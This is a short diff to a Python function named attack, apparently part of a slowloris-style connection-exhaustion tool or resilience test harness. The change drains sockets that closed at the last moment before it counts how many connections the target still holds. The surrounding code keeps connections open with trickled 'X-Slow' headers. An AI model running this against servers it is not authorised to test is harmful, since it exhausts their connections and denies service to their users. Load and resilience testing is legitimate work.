@@ -119,6 +119,17 @@ def attack(host, port, sources, idle, slowloris, stop, ready, results) -> None:
                     key.fileobj.send(b"X-Slow: %d\r\n" % int(now))
                 except OSError:
                     pass
+    # Count what the node still holds: take in the closes of the last moment first.
+    settle = time.monotonic() + 0.5
+    while time.monotonic() < settle:
+        for key, _ in selector.select(timeout=0.1):
+            try:
+                data = key.fileobj.recv(65536)
+            except OSError:
+                data = b""
+            if not data:
+                selector.unregister(key.fileobj)
+                key.fileobj.close()
     stats["open_at_end"] = len(selector.get_map())
     for key in list(selector.get_map().values()):
         key.fileobj.close()
